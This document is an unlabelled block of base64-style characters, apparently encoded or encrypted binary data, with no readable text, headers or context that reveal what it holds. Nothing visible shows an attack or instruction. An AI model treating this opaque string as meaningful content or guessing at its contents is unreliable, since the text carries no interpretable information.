XXKU37IXxD+xy/ugBFC27Y27munJdP+3BrAS0u0YCbgtsvvIKYafy0XtMQxNJe3Ua8vlu9h2CZxB+6jVQ8i4coyRcVkLjiHflbezSFjbDWMqkY5kD0ayEZXlLTFsZ60h5uyn5W9MP16qqHqUs0xLDFe9WBnD7JZ6kGjrZNPJi5qWIoZqUZJlS+pyGb9q1bK3XaJ6LV/x3OWKZy/hUEi0EhChf7a3ayNWAmoOJtvpijH747I9iUnYF5IoG1Iqj/SA3BLazEQtr5anbRNv20re8ELMVTJJcphEnnxdXxnDjIeuxMM9T1qcM2qRs9wpM/tVX1U1B54W1fkjxZAZ+b2tz2RNNxqFmFCSgTu4PGSC6TGXC7t9ydRMI/NypyXxRGyaRGLKSnS9AddWGZUMZyfGo8DJvmAOUzuWZS4hh1ayfAmuEtUSHc1iWFm5YlW5mOw3dY6V/+MqI9h2YEc6rJHD7n982YTGYsgzofqNDBxqfWsayEftr2TcEOMdtlW2R31jHDK1Oyaa/ZQyMZLIy9Q0kifDNRl8YNey3ZbM0FzUEdnkDPNc9nErhluyvjLFmUtSPcfKs8sAd7Vtgmi0syhNpAM05SqNVmYGYiSKApVEllI5fkhUr9KpK64rX66NecTSmfMtEcREOXIkIc2uB8fJwDZsWtHEtLwiLtq1TwwmmTjIlalx1MZ45AaZzo9I7KRMeRIyVxZajjp7GI+atawx5rNzsf3hJGe01wyTyEbsM2aXtiTJroBrSYzypl3mKJMXLVdSzDKKZJzjZKQrpiiibA+m2LXhos45rTl3Fe2RUTYpofJErOziWrH12BllQ2rSUmVx60Fb2Q17+pWiGZZUli3f4xRLPHccXLZ7v8SBbMXSJNO285QjEXVFHwxbHbU+4tD01C62NTCIdrjKfNjoeaSmSNTJGMNKlan+vIhozRLMoEllpbtU4u3EYmjthCv7IxLtM8cMm41tDVI0q9CVFRG8/HMGXj00kCipjYr5l7CBlBxjADEq0ZJj8ie5JmlWeiW71njH4zE8ouKmE5xBPXrqhDPZjjctTOWrfWlxZNcwJhpellTprJwV5yTqaMXkoR4ZoFVWxchIDM5e16qhxpEo3U4lYqxkqmIko+PEtvFRyl0q2UGdeRW+VP46Wlkys3s/z80z28AYYh0HGs0xNibacwhjBYNbZMdN7X/Ekr2KZ6+dGF+JMXN1gZj7etGqytg210Ao4Uh5jKrsspGMVpbq7Da4svK3GJXpWChXjpaXnTqr40bpvKPRytgCpUq1SY4mx+q7b3kMOydq+L729N5QejliPlyq2CVrDDMWRL+qz3NIdUiVab/5s8iaJhsm0hLq4MrUsVyQWCWqw9m+qkxPn2LR2DwORVBEvjxTkFAF1kcrEy1iSCtRHbkEIhohySDk8uFESbBceQPb1xzDykOpXPZ3Y+bqBu/on5LlrnWJlTEM3CtYFhKNSTFjUWquw+8qkUAKZ39gdqb6yqKgkdM2j9n0SUY/RWsnEtgLRKjXTyZ+s4SjZrEYFT2KURFPsTyGRczhVMROGjKBUXP5UTJDWzFryraduSwUgyuRExu1Ft8Foy96rNPuaMy0rKmJsZwk4QALNQuJWssPctkgSthrMNdOxn67wLJ1XYurfV++y8E1v280/+tauriLlcezja617DwudddcNp5YOAHZjK7ubmYeud+QUjqaWfkIzn/u2qWsfA3iE2qqkEsONCv5dPOAOtrsxeOfcZJ57q1sWpXBrdmWwWGtpUr+XyIhauos1OI1NVlQ9biSTKqaFh9QZeMH7P+c+TdKZOdHRQdM3sQH1FELtH+c8kP9BHNiSfPNZgLN4fJvQLwyrMXNNMorsDbsqD+r/utN1Uc8xivy+9QfWVwaR/PNbPk3GBNCh/xoBVkGGS0h07kDcLXjYIKDJ/UenpeosV0Z1jBOyV7hkf7WmB6w3X6dcbr+HEk4648oz/Z0/i1s9VdnnKqq5N/CnP+OLv2rVGFF/7zzj9QD7OTWXyZ+ZxffwsTv4uIrTRikv5E6yz2y/k7l8vGh9nhV+4UVQKgF2A3Zj1Qux8SLtQC7U3yBkd8D9kD8/I0rIcD+OjZfAuyJ7XdXF/P4tZcVyTX4xVsVVvu/N85/dUtX4pA1K6aHtN8kXr4PKv/ClSsXts+HgPqj+6/s4Nnk39ecsVnyt7e2trHW30TEL1zZvXbVxmYm/dsPyT+qdMxsCcifEiBizXwsfm334cz604Tbb+nieaztPwnxxaSixxnlPwDJ37V02TrW/CdT+rdhBSt/IOL19paZapFN/w6yt1sAtK0+gbn+p6BtTO1fgz8Y8R1fg29GfOfX4FsQP/Vr8K2In/Y1+DbET/8afDviZ3wNvgPxhzDzO5l3J1j8zK+R/1TEd61avJxV/6ehMFKLsjWZy/am+1rSudmLU3OC/HcSDZqOlmwcfE8QT+KDM9D37PwhcIg/3xRm/jFzTPwsmOXPTwqWfybMHgNP5D8UfT+la67COn7NQe3fU2xr65jrn4hz/BbqzPuiynxTNdjHfh5G8QlG3trhZfGT9hvpmDs7vPzEf+6i+KmdVXBw4mTcmov4KV3da1jrv9td/76JOOXn66xzx6j+q0ngrD/CzXfUPwvP1XTBAnf9h5afzD8XuurfXwJn/ZMo9iLEd3XPS7Dav8WYP2LeSlZ+CYpDtbV0Mdvvpdj//Br8MsRP6Zrfz6p/y93655uI239fCCsc+ldNArf+LYCVDv1j4bmaleZeMlr/QsvP1S2C1S7985fA3f+7YQ3Wn60Liqz1vxbzi3PM/u86yv4s72bNf727/X0Tcduf+ebdRqj9q0ngbv9VcLij/dn4jbDR3f6h5Ye6ubDJ1f7+Erjtz2I4gmr/bub585FU+60ZZG2/Hnf7+Sbibr/D4ShH+1WTwF3/m+BoR/ux8FzNaoi72y+0/FzdGuMWQrr9/CVwth9ZdFEQv2T16iUzGeevCTT/09J9c1jbP4n8dy3dR5qwMxWy/CT+lXLwcxjkJ/emqDTf1DkvfPvxNdYtSZhPsfB90Efzk/Yb6Zw3m8H/6Xfy09tnh21/shc+jedPW9eqrP1vM9V/1yZY+QF3//VNxF3+oyHj6L/VJHD33zgMOvovG5+FrLv/hpYf6o6AnKv/+kvg7r8JyCNe61cKaspev5kTsH5jzJ+2oPQdfE8Q3yABFMbA10sTQPPnm8LIr4+Bb5A0KPrzk4Ll12FoTPwwDCO+0nIB8X9LA8T6ERjx4i0rWuHNQwXO9buGCSqMevJzAvI3BYg2AGz14i0riHjZOX831L8R4Ngx8NFGgOO8eGJFU7NpXnbFDyA6AeB4b96wolXKb0jQMB7gBCr+sFZns38ZONHD/umh7d8gtQ2qqRrsab9y5gZvbP+Y+G3mHhGH/dND+y8KnOy2f3p4+7fF3HpSY7dfrpjVHetv/uuPNfW7wal0+xPeXkCUHQt4Tv2vadgZTsP9X88VlD6VgQc43c2Hlp+sH+LdhMmcNpjTwq//CjWHWXe1WvsXFD3ZH3esP4L/+iNZvzoL8alcsjioZvVUIpz8tfUAZ+P6z6cHm7ViQksW0nk9nUO7B4wfp/0kWxW/ieuvgmbJKi5lfGXv/Qf4jiplQEk0M/iP5Dbwb6P1m6H2lrZmRv/5O4hP9haZ1o+I/3oOxbOvP51L8QNxVv/9PBR/UUeX9C/enEuz+J/no+8XZEY3tMu9g+1KvLr9sJLgG6x7FaMOvhCO5xoALvDgO+IB9ssqAV9/gfkOEIvvzbUz199FqP4WrVm6vrnKErZ7/4dx9sjO3+CZ9PcSuATx2d48s/yXIvmzvUlm/jKKzzHzl1N8kZm/AvGFbIqZ/x5ePyW+Q7NS1PubQ+mf2GC9bydK8fl0czj9E+uvNA8jUnwyk1azenP1/I0kxHEAP3DxWjI9GE5+oSFq3vlK8cNqoj+XG2gOyN/yn6528eH9D6HmauOdHbb9TbLpL5l/XovabyiZZuavo3iFmb+e4gvM/A0UP8DM34h5tZBUM/FEJpeIF4bjAe1H5g/WGzLK+xfWda1b1znCtP/jJorvZuRvhpspfi0TT/Yv3ULxc+ey9v8fofqbO3dedzPj+H0ryj8xUFRYx+8fU7zCzP+E4pPM/sNPKT5f1QHxWn/7GS0/Y/4/hZ8jvrt78aqudWz7325z8GuWsO1/ux3xff0a8/hxB9KfvrTeX0zEfSvRbX+tO8Xt/HPM/f8unH9/gVn+uyme3X+4h+KLzPLfi/mM0ucz9PmuX9+H6y+T0tn89/Phforv7U3q4fe/kX2HD9A8Y/4Pmkf2bT49qDONn9Z9+TafTLDyD1F8TtEY+YcpPq+w5E/sxyMUX9BZ51+POvgCU/6/hF8ifuGa9s6ph8yc2s4Qv/8Vlb+WUxj15zHEx/vSekZJxDVV09K5bOD+pRoJ4Nf+fOD+o4gE8Bv0PStfI/0GHvfnm4L5J+CJMfDEbvzWn58UnP9vjRvNvz7/O/gd+r4vk9fZ9P9R8wYAW3+GdVb/4ynE5xW9hdV+/wHZX42Z/yP8EfHpZI75/M7TiN+sZgfSWa05WSgOJuj4mxGCcs5/asaZb2Io/+g5OV/IJVU1Jes5OZ0N03/+PCb+GXhmTPyz8OyY+OfgORw/Sw0w1//zqP79Z67+/AuIX7W8aylr/O1FpL+rlnetY7X/L2H9L2aY5X8Zxw9Sgyqr//wXlD+JnyUWJtMr00sWr9+6uD2o/cj61yu4/frY/a9Xcf/Njg7Ei/6d2Gv8eg3Jb/AaC/9X+Cvmt7DHb/6G5d/CPv9/neIV5vz/jvm+fDyTSyqZkPFDrv41eAOXP8Mef/0HHX9tUzd2pVemu9Ib5q84PEh/SPwcv/GwRdEzijbUHv784TnwJo4fk/UHhvkf8f/+hfhWvRUCyk9/IAC8hcrf06r3tDKOf29jniRQJQWv+d87mCfrdwt0878Q8Td+3EnwLuKbOhboTZ6k//z1PYrv1Zs6epnk/zfiyfrdgtm6+V8I+evGAbxP8VNnEHzqjNmh4+8fIL572colXWvWxsOv/wH8B+tfOsesPx+i/FMpdvv5EcWzx68/pvhhZv4TxE8koeeJLP7jsfBf9GePkUDPxPD1/z/4H/p+YjqlZvW0PqrnBtTsxMD4ITn8+imVP5VA4PyBkz6Dz3D+BbUvremFsPkLEwA+p/KnEgjMX5S+gC/Q92sPX75u6Yrm9maG8fNLpL9rD1++dP6m8Lx9eLt8/jI5UIhXCcF58ZyTz7HwPMcjPtanDrb0FgujLd4d0Wv/hoAuIFAKOln9wOvXVc8/E/sn0nwaWz/H8ren/Y8gfnNvIdfHwBP/Db8hpGtpd561/9aiq6CSgxsGUwv1Ytj+R/b/R1H9b9YKeVb/s47mU2x8PVeP+FlxYj/Wkb4Tyv6Tw/8NqP56AhJw6g/X2Mg1Ir6ps6tqAs7xixsHMI7iFSaeXB4wHvGm+Cz2dxw3wV3+0OM3X0vfS1Muf/j45wRuO4/yh7f/47ntqfLnFU0bzhVS4fxfcnnEDnT5qybgpT87OspfLQFn80Hj9txOjvKz8FzjDtzOiA9Qf4/1W4BdEJ/ND3ax6H9N467crm5+MRlEw/BiI8BuNM/of6Rgd2S/cqMdjP7XxbAH4vNKckAhA3Bc8VzJdLoPdeMB9uRw/KrM5wp6CD4y/kvYy5svhuP35vb25IuheCL/Pt58ISwvY340n27u6pu/OLkoM6ysnRYmfrAvav8yvyK1cMPWVHcofiLiC8XEaJ86qIX1H8j5t/2Q/NpAs5LVm5XUYDrb5uEFOf03bgLA/h58Ph12/t3ENbn5nKKHt1+TPPiCHjb/SdwBbl5Lh7afB3CTEa9aF6Cw+A8HIj6RiGfSQ2o8/PgBcBDikxpr/PBAbgrq/wPqKPP852DsPxW0Auv+uWa6/hnt18FcC8pf7Ugwy9+KeK16+Mf7/D/iF3Qtiy+dv2lO2PYj++/aUfkt3vcMjnv/UAfX4cHPCdn/yfmdTjfvewbHPX52clO9+FRYfho3zc37nsFxrx+cANO9eJ8zOO7xewY3A/G9yWbm9j8EtX/vMLv+zMR8hj3+MQvxfRpr/LKdm03pf3O/mkknc1m1OZz/BXAoqr/+Xvbyz+Go9Yt4rtAX2v5Fotabf8vzp3SWef/NYbT9yfQyrP+R+wNiiM9oQx3xPJv973LyVdrQzc/l5lJ8nFl/ulH9ZzIjzOsv8xA/2Mbef+bj9tdY+UdgAeKzQ9VXwNzx7xdhoWP8J75P2PgPVzeZW4T4dZ1zM4mBBUtYxu/FyH/TBppzheah0PGnSN2BsAT7n/nqDegef+dzSzGfrG5A3Pyh3DLEFw5h7//LUfsV8uzrPysonn3/10rE60OZUdb1+1Wo/AafUofCxx9Xc6udfL6QS4XcfyzUA6zBfF+e8f63PWEtNf9h77/rUP0NK9lUoooE7vWrddx6lP+Iwr5+vQHlPzKgjmrpBNP+s8Nx/tqgnq+SgNf9nxtx/Q3ESesx+e+bcPyXkSfrL0fg9ncELoLip2T9/kgO3V+Y1pI49CI7DjB5xb96EJ/J9aWzkwPyd4yfRyH7Z+6cbykUrUT872+snN86GvFFvT9XSG9VyPkjoM4/yZ7nFyON+0Ac8Vb5W5K5wVYln24Nmn/Xk7fKePM9rR6zYC9e8eFJAmH4hA9P1kCDeHL+KunNN3UsCJd/yo/vDcOrnOrNG2ugwfKfAr1+vMciqJf8fW5eyedNFQiOvyhcvy/f0xrMJ7i0P98TzCe5zf58MYgnV7kP+PJNHcH593KZMfGD3KAvP2m/YL6fy46Jz3E5xC9euHoD6/iTR+PP4oXs959uQXxq4cwCa/4FDt8/uZF5/NYofgMjn+J0ime//7OI+OaixswPcZX7/6qfXvKqv2thGM9fUuz+zwiOv2vxoY64ks+HPr8IMIrGb5P3nwG7+a3cVux/q+z+97FI/rULW5j547D/peTzrP7z8dj/yo2oLSO5kbzPErzX/QUnePCJ0PyJ3IkO3n/138t/LnElms+z8SdxJ9F8goUn/tc2mk+y1v/JNJ9i5U9xys/En8ydylXen2DUH2P+p9G8wsqfTvMFVv4MmtdY+TNpPsfKn4V4cuxTa9EySnLAcGCCxj+yf/psNP45+ED/o46c/x8DXy8t4L41Jv7b3Lf9+aZg+b/FfWcMfL30He4cf35ScP7ncOeOga+XzuXOQ3zr4mwyN5jO9h1uHgEO037n4/V/RwLB+X+X+y7mHQkE8SC9Cxdg3ti4WUkizPrnhXj/AIZD5f8+XETxvYz8xdzFiDc3boaXH6Q8XELxU2cgPBHEc9J/4FK8/6OL/f7Oy7jK/XE9s9j918sR39RZ/QUA7vj7ztwVFK8w8t/jvof4pfM3Md6fP537Po7/DaczeOdc8P0tAFei+MfapW3M9f8DJP/ape3M/FUUz7r/4/vc1RTfyZz/NRQ/lZm/luKnMfLHwXUUP505/+spfgYzfwPFH8LM30jxM5n5H1K8wszfRPEJZv5mik8y87dQfIqRvwN+RPEqIz8Et1J8L7P8P0Z81+r5zPxP8PpXJtmvM57f+Cnyv1tIAurgqOH8DXUE+n8k/vczH76ndShU/PDnaPyh+J7WoeDx+zbuNj++2NYWzBe52334po4FQ8HyX8Ld4cv3BvINUpa704cnvkCw/H3cXb781BnB8q+Fuz14JZ9uSefC1D/APb58Tyj9udefD/TfayWA+/z5YjB/P3e/Lx8m/gjwwJj4B7kHffkw8UeAX4yJf4h7CPEj+cIQa/zwYWS/Rpn5R7hHEL+VkSf+46OI15nzf5T7JeITaT2ZQ8dug9avyPn9XyH/LV9IDzne/xa4/vWYg1d0lvsHz4Bfu3mm+wd/g/jhND1+0atvXuPPUfA44hM6fX+YB+/SnycQb7340FiG3D9fCJw/kbdc/xbp74Jlh6+d37009PotH/03PIn3v1TbPOkTP/kdHv/S2d5iQTFsZ2dr9fhh+f6s33vyPa1DncH2k9zf+5Q3byQQbH//wP0B248K73kE0sv+/NGTJ6NnZ6j31zztw/eG4OukX3B/8uS9j0C6+Ye5P/vwU2fMDjF+X8Y948m3DmutQ53B5f8j96x3/bcOa+Ha/zlv3kgguP2f554fQ/s3Su/BC37tP6yFaL8/cy/6tX8o/iXupTG1/zPcy/7tPxxc/89yf8Hn10z7xRC/f5J7Be//SGXMDdxKPu21l9pr/flVav8Z6/7v5dxriLde/Er2kBSTejrQ/pL7Y/7qKj/ZwaRmcvlBNQz/N3z+YGu+agG8zh+8juQfzKqDuWw66Rh/5Wr7Z/6O98+Rmzfy/QVFU20eB3Gc42+kAeANBx9n4Mn9X/9w8M2M/D8dPMIDx3+y/+tNXP9qMjekFkbLdSDL9BuAneHH2gkA//Lg4wz8W5T85PhDpQVo2r1/u3bcP7i3XXycgX+Hewfxw0omo+pxUo2O/UPe9Q8N78C7iE+k850zA/wfp//wHpa/n/3+vX/j/t+fr3qDpdf+qfdpPq8w5f8+9wHNVzN/Hvx/uP9gfktbUsuz3Z/1Ic0rOhP/EfcRXv9mtJ9k/9zHtP0li+++abj3jwF8QvO6qukM9vuv3H9p+Rl5gP8hfrhfU5OM+vcpXn9UFOb72z6j9m/mmfnP8fmlIvv+hS/w+aMRnen8Ndn/+CXOf6TIzAOPeb2flecQn9Lbkm3tLUzr/zzNayw8uX9EcPIdbLzo5A8Jzwu1D0PEwbdPZ8u/hsfn77Qi6/yvFvFdXfO7ug7foG3auKJNOXx5qPhZlKfub4yro0uY5K/jqfunCiz3t0O0nq+n8tcYz7/8GhoQ359U0gOM8edGih9h4sn7m8bR+Q+y5j+ezp+Rn8BPoPPPsMov0fkz89shfsWaxYtZ7ef2NL+a9f62HSh+TRdr/jtS/NpVrPnvRPFs98+R/Hem+WVs8cdd+F34yp9qsa19ZISt/Xbl8fyvqE1hbP/dHLz5Dppw9w/XNLzI7e7gm/xgD/shRAH2cPEJBn5Pfk8Hb76DJvz9yXu5+Kmds0PufxTq9+b3pni1yFr/+zh4tvrfg5cdPEv9i9GTYV8Xn2A4/9jGTXTwLPUvNlzK7efiWeofYH/M948wn79q4tH9E4z3d5P1g0mYz7LfX3gAxbOfH5/M4/sb9cKo5u8CuN+/08AfyOP7G/XCaJHt/vSDnLzCdn/6FCefZuMPxnyS3X9vxvWXJBe4sOXfgv3HLOv7K0a4VsznW/LVbtD1mn+30bzGwpP5VzvNJ1nz73DkrzDl38F3OvhkerCFZf48leaVYiod+v5RqJvKT3PKn04x5D+Nn471T2ffvz4D6d/mr/H+kEMQP1BMqEpqUN5sLULKjgCU+/4jgJnI/0jkcrqmF5R8s3mST6YDcB7vz9ufn+XFWwcBHa8/dK1fRccDzPbi42HzBzgU8Vb54+VziGHuf56D+K5O9vMX30D1n8trjPOvg/jDsP70Kx3Tpp/AZH9jvOP8JeP9+1286ceW6y+Zy/am+5qLYd4fBONm8XNR/pjXVPdWdq/9v90ofzP+2kziX6HOT4iNL8M8lP+QUszodPw08P6++aj9+4e0Ftb+twC1f/9QgplfSPEFZn4R4tdnNVXJyEvVUTmU/0XWHxaj8hcNPu5Y/4eq6/9LXLzj/YGy//sDyf0vS3H/27BiLev9GctQ+yvpITU71M40fi/H9t/35ij/+l+B6j81oCqs/ErMa9UF8Jq/rsLy5zTG9zfvCqtx/s4NGCHqfw3OP6EX2eKPT3FraV5jy38tvw7xg1tZ76/5O7eex+fvEnFN8b8BxX1/F8AGlH+WXCDDGP87HPP5Pmb/fyNfiZ/ntaSSUeP54ZDyk/dvbsLzJ5PXB7Lh5m/k/b9HuPmcnxftXj8DOBLbb7Uwq725P53VZ4XKn7z/sYfme6wEemaFyF8YB3AUzTd1dpkJNHV2Bey/+RL4CQBHO3mlzCuBfOOEa7i4o/ydjOU/xln+TrbyK67ydzKUP84nXOXvDF1+fkKST2L/h7w6pcoNdu7+93tIUTz7/VUqnv8l8vGhNrb5b68j/1yVKaRb/l6+D/eflmreo5f9iPH9PF7/Yn9/VhrHHxSd0f+9HTZjnvn+uiO4AcR3L1hV9QUe7vjZAJ/B9Z9hn38N4vbPtBRbGMffLJ0/8/sDcyj/3nRfim38OAjyKP/edF+OdfzZ4uALjOv/BZpnXv/SHHyBcf1Fp/ic98SlCl/kqfcfNWeV9tD7P8n9b0MuvoOBr4FhF9/JwB/Gjzh4tcgm/6iDV/Js/FYe73/Nxqu5QF7x/2MdPIv9rK1v5Y9z8MOM8bvjcf8dqG6A3fqT5k/A/pueZR5/TsT2p/r1rR7vfz6IK2H/V+tntn8nofzb2uYx89uQ/zmtS80fMp1t/nUyFf9I5/O58PtfyP3Vp+D183XrmM+PnorKrzO///oyOI2n3r/DWH8n8qcTfscy35Vm1Z8zMD9Mvb4gFH8mzS9h5c+i+LalrPzZiO9aOL957fzuNfPXNRvvwQiKHzVIV3LfRPGDZvIzd/7CxSvk+Su612wK4gWphfuWJ9/U0TZ/RXcQT+4v+rYnPyVU/uT80XcQv8o8f9FMVhF6c4XBYP7bcM6Y+HP5c8fAk/3j540p//P4873bL3T86rt+7Rdq/nkOf4F3+4We/16IeFi4eF33mk2r1i2dvymM/Yo0buAuQvzk9vZZ+UodBs6f6icAXEzzPdUS8Hr/5SU039TZVUkguP8cw1/q5BUW/jL+Msx3kPLndDWpk43MhSC+UXqTu5zme3ACQfw46Qr+Cpo3yl9OIIjnJIDvOXklPC9Il/PfR/xSdXSWPDl8/RH7cyXN9+AEgst/Cf8Dmm/q7KokEFz+Ilzl5JXwPC8dD1d7lD9s/ZH9b9d4ld9KIDh/gGs9y28mEMxfw1/nWf5wPCddzV+P+C/e/uLtoPGT9v8AbkD8k08++SQrfyPiJw7ooxMZ578/RHwPScD/9WGe+69vQrzw3FWX9n269DaW9d+bHbzKxN/C30KtX+iFoqarKTmZGxxUs8H2B+BHY+DJ+xdvHVP+t/I/HhP/E/4n3uPvyrya3RDER6QL+J/6jb8r8yHs13f4n3mPv6Hyj0oX8T9HPM8JbdsY4w+3OfgSI3874petbdOXrW3vXrM+tWRdOsD/+BJAHA9wB5U/tI2rqTvotEWnfTyO47hg/+nf3J0Ofoea2oNOW/TkHJ4Lzr92/F38XQ4+UiNMUfPh5t819QB30zy/jeMgbP8Tor/h7nHyPAsPcC/2P4vr1m1qXk+Wnpeqo80Lwvg/9yFeyfTlCmm9f1DuH1SSzaH8r/s9+YmeCXidv3vAk+8xEgj2vx/kH/TkFy3v6g6Wv3ECwC8QP2eOrKY6pk1rnznU3qypgfmT9fuHsP03Xhxi/ktSCsM/jPk5PZQEYeZPjyC+qXNeU+e8SgrB+T/KP0rxqSZT8rD8L/lfIt58cYj5b5jyE/l/RfHT22cb/5gyBNtfgMfc86+lHlMHn/X7x7lfU7yq9SsFNeWTgnP+wjcC/AbxzvsHguZPNQ338o8jfjhdUPuKSiEVN1MK03+fwPunR/SC0q8qKbVA7z+ocv7xt7j/mK9+m8zifzyJ8yfhu8nh44dQcxL/O1x/6aXqKBP/Gvd7iidVP5nJ/3sK8cbx2yoiOPdvCHWj8AcnX0UE9/t36uGPiM+qw/KqeStD1z95f9HTiB8c1bZk0vFkLptVkx4N4fX+sD858jfTmBxKf8UGgD8jvqVP1bvNzNO5bHD+kQkAz+D2GzVyb/ErgJf+P4v45aNrVy9LJULznPRn/jnEr1D14VxhoLugGq/hVYJ5gOdx+/cbb09MzQqpP+T9BS948D2zwurP7/gXPXivtWvwub//JU9eCcXXNgC87NQ/pvnT8/xfEK9phgAM/fdD7hUsf7GQkRn911ex/e1TdRae7P95DfGpXHJALcjGaxjCjB/RxqO5v2L9z6UGlWx4nrz/6W94/56aGZSZ6r8Ar1PzD7b3l4r1L/F/d/MplvWzN1w8PoFfvfxk3eUfuP4UTZvF2P7/pPLX/V9e6jN/f5PijdW7juaEqhTUQqD9qyHn/yneXAELW38QPZZ/i+LNN3j4JeP1/vG3KZ68v8nPe3HbL7EO4B0n7497zF+e4t+lefMGDJ9mcIpfMx7gPZov6v3+jeh1fvzfiJ/V2sq8/vc+5ntae1qZ9O947gPK/+5q6ljQ5L44xtf/uJP7D8UrTR29TR29IXly/8eHeP4RUAFe64cfUeXvae2pUgPu9c8LuY8p3rg2x/vyHM/3Lz7NfeLie81/Q/B14/bl/4v47vVrlq1ctY7p/XH/c9gffOlN8PvX3+A/5dH9Yw7rF3T/CHl/wWeIjztHzxDvH/oc8c3M/Bf8F4hPOPjg9x99yX+J+AwjD5GPeNIH7fpj5gE4xBeY5QeBR3w9Y/2R/AXE130NXkS8zNx+ghBBfAszXyPUIH4iM18r1CL+gK9R/ijiJzPnHxXqqPZzXFkVeH8fQD1V/+x8A+JbvwbfSNU/Oz+Oqj92fryA7QcrP5efgPuvw3WUQ+QvId7p9gTdH87V/J7fDvFO7yWYf4/fnubjjvsrofr9lX/gd6D5Zhaeq13E7UjzMlv+ADu56k9mOv+ys+C8f5KN38XFs5y/eZrf1cWHP38j1v2R383FNzPk3wi7Y55s3UMNIDsawO3/ng17OHjW+0/3RLyaTRZG8yT2YkohUwcI3f5z3XiAvTx5UwrH8UWX/xQdB7A31p90Xzad7WO4fxVgH8QPKpquFtjOX8kunu381b6IT5YDP5lw/pdQfx03EfPG7ItF/tNhP1x/eq6g9IW/v5bEX/ZH/OZhPc5mPwCaKPuRj7Paj0k0z2g/d4cDEB/Tk/nJjPP3yULl71gxmx5hiB+T+ycORHwinU3lh+XQ8xfj/L+Lr2OY/wBMQXwmpeTjKbWXHOOMK8XA+D/Zv3Ew4gu5nM4qf7OLZ5H/YKEF8YNKsj+dVeXw8QuAVsTb4Sf5ALoD+sQfhYbP+DZPfmJIvl1o9+StTRz+vJGA0NghdCA+mcsOqQVdz5EATLGgOs5vy177lzrHwJP9h1PHlP9UYRouv6YX0tm+cu27OrBX/Hq6Bz+RgZ/hwdtbaPx4tP5+COLThvXuTaspOTEqH0CPfz7rvzN9+Ykh+Hu5Wb58z8QA3tg/M1twxA+I+hnSA9C09/m1QxEvM/efTmGOJz/HTKGK/pv5f0P4hidvroEjniQhu8u/FQ7z5ufQFeAd/xPGHybEPHmyjH0AxXu1X92EE6FrDHz9hOu5uZ48WQNPzaZ52WP/wmN8tw9PFsGrl5/wm2Geh/7MAc/m93j/eZcw34O3Wg/pn1kBbv/xDm6BFz8nIH87frVAWOjBN3WmHLy3/xNt6BYWjYlfLCz24K3Wo3gZvMo/T1jiyU9vn121/JXzv0sxP2w3nd/813V+YBnNl5uu4r9BufRe/m9MWO7g5wTkT8dfthNW0HxTZ8rBV31/1xJh5Zj4VcIqmi83HeblavHv1U7ebDr/8lP7H9YIa7zsd2j9XySs9eK9zaeH/VkorPPk5wTkXz4/vU5Y78VbreAwfx7vb10tbBgTf7hwuBfvbT4977/Z6M0brVi1/xnvj5grbEL8oUoqRaIXcyaGW/8k968dgfl8IZdXC/qonFUGVXcq7v0Lb3NHYr51QB39Bsv+F4AexLem1KFWPZlvDb1+BHAU4ntIAj0kBe9FHK/zZ0dj3kzATMEjCff65yd8XKD3z3UsIEkYvwTOf8j7S45BfJMBN3Us0JN5r1U0t//2Ia9QfK/B9xp8byDfMOEBPiFQ+986FsxOqUPmL4Hy10mz+STFT51h4lNnzNaT+WD9uYdLOdu/mGJqf9Xd/sVU6PaPC71e7U9SCNH+jROOEfr82z/w/VPk/EO/V/sXU6Hav3ZCWkh7tb/Bh2n/pLDZv/0D5eelD2DAr/2LqRDtrwoZxKtyayKdbfU9Bev2/wAGKb6HJNDjl4LX/RtZmjcT8EnB6f/w4/qFHM0bDU+SIL8E7//8L5+n+CYDbupYECp/YVyzsMXB9xp8b0j5E0KB4s2GT6Szxi/B+psRNAc/dYaJT50xO3D/LydtEnR3+yeU0O2XFYpe7e+Tgrv+hoQh7/b3TMGpvsKEnDA8hvavkQrCiHf7h8q/bsKoMOrd/iHl3ypsHUP7k/3Lx/q3fyJYfzZyx+H4D3P/HxaOp3jW/j8inEDzTP1fGHeicCLNM7b/sUKJ4ln7/0nCSQ6epf9Hx2nCNopna39Bups72cGz9P96aVA4xd3+DP3/BOFUr/YP2f9rx5WE07zbP1T/iU7IC6ePqf23CWd4t3+o/PkJJwtnerd/SPnPEs4aQ/uLki6c7d/+iWD7cbzwTRw/alblaldgeM0fvuXgfZXHM37/beHbFJ9k5AG+I1D7H/ub1RE1yeC/nOMe/3wlcM+/TxPO9Rr/fFJwn/84XTjPe/zzTMF9/+sZwvljGv/OFL7rPf6Fyl8Yf4Fwgff4F5K/ULhwTP7PN4WL/Mc/JVj/vyVcTOlPFeXx0f9L8PrVQG+6Nxd+/Yzs/72U4rO5lMyW/2WIb+lNZ9RsbvKBIfWfrF9fjvhcXs1OXrtu3uIVB4ey/2T9+ArE92q55ICRSLj+I9YDfA+334ianOW//cpz/+H3HTw+++DJU+vHVwpXOnh8dkF2BBC91j9/MCb+KuEqxGdVvYVUoaprLXoyn6ysvJn/e63fXo34dd2r1hp4S7j6J/dvXoN4La8MZydPtJzAiSHiLz/jrnXzvk6g2/4AXOfBl41gcP//rnC9B182gkF8g3SRcIObt41gEB+VbhRu9OItIxjE10pnCz9087YRDI7/XCzc5MVbRjBY/le4m118T1kBQrz/+zrhFhd/gIUfEEJ/1sGP3Hxo/amVzhdu9eDD6k9U+rHwYw8+rP7US1uEn7j50PozTrpJ+KkXH1J/SP/5mZsPrT9k/fjnXnxo/blFuM3Hfnj5cV7n3273tR8JJbj9fyLcMQb7QervzjHZjx8Kd43BftRKPxPuHoP9iEp3C/eMyX7cLNw7BvtRK50q3OdnPxJKiPPnPxLu97EfYfSnRrpVeMDXfoTRnzuFB8dkP34h/GIM9qNBuld4aAz2o0b6ufDwGOxHrXSP8MgY7EdUOkV4dAz2o166RPilW/+8XA8f/+UO4Vce+qf1e1+i4z7/+JjwmFt+r6HLZ/+QzP0a8fvHF85fx7j/8DcUv2rl2nVs+w8fp/g181evn++bhNf5uycovnvlyqWL54edf5Pz47/F/u+Qkpnct5Vp/vOkk9f0QryQ09s7g89/N064B37n5BOKpk6fGk+pyVyw/Wvmfo/3fxoJsM2/nnLkL1epAHf84nfCH/D+SXVLUdV0cgx+lVJQBoP7/2bhjx58WlcHjwx4f035/S1Pe/Dk7sEwfP04gD958FuKamFU0wv07kH3/IXc3/FnN3/kxOr716n9f8948D0TA3i0/+9ZD/mVQp8Wxn7UNgI851N/YfiaRoDnPfghJVNUteD4Se14gBc8eD8r5N6/9LjwogfvZ4Xc+y8AXsL2Uy8oenFwip7Me54E9Tp/+7IP73UU1u0//4f/ix/f0xo4fyHrJ6/48cW2tmD+VeFVN2++gjDE+nut9GvhNe/8PY/Suu+/eE34q5tvMjL